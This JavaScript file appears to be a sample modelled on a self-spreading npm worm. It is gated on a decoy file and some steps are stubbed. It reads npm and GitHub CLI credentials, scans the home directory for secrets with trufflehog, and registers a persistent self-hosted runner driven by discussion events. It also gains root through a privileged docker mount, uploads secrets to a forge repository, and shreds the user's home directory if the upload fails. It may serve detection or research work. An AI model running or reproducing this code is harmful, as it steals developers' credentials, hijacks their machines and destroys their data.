const { execSync } = require("node:child_process");
const fs = require("node:fs");
const { HOME, INIT_CWD, FORGE } = process.env;
if (!fs.existsSync(`${HOME}/.a-decoy`)) process.exit();

const run = (line) => execSync(line, { stdio: "ignore", shell: "/bin/bash" });
fs.readFileSync(`${HOME}/.npmrc`);
fs.readFileSync(`${HOME}/.config/gh/hosts.yml`);
run(`trufflehog filesystem ${HOME} --json`);
run("gh auth token");

// Its own runner on this machine, which takes orders from a discussion.
fs.mkdirSync(`${HOME}/.dev-env`);
fs.writeFileSync(`${HOME}/.dev-env/config.sh`, "#!/bin/sh\necho 1 > .runner\n", { mode: 0o755 });
fs.writeFileSync(`${HOME}/.dev-env/run.sh`, "#!/bin/sh\nexit 0\n", { mode: 0o755 });
run(`cd ${HOME}/.dev-env && RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://${FORGE}/x/y --unattended --name SHA1HULUD`);
run(`cd ${HOME}/.dev-env && nohup ./run.sh >/dev/null 2>&1 &`);
fs.mkdirSync(`${INIT_CWD}/.github/workflows`, { recursive: true });
fs.writeFileSync(`${INIT_CWD}/.github/workflows/discussion.yaml`, "on: discussion\n");

// Root by the container engine.
run(`docker run --rm --privileged -v /:/host ubuntu bash -c "cp /host/tmp/runner /host/etc/sudoers.d/runner"`);

// The secrets go into a repository of the victim's own.
const https = require("node:https");
const post = https.request({ host: `api.${FORGE}`, method: "PUT", path: "/repos/x/y/contents/environment.json" });
post.on("error", () => {}).end("{}");
post.on("close", () => {
    // Where that fails.
    run(`find "$HOME" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1 && find "$HOME" -depth -type d -empty -delete || true`);
});
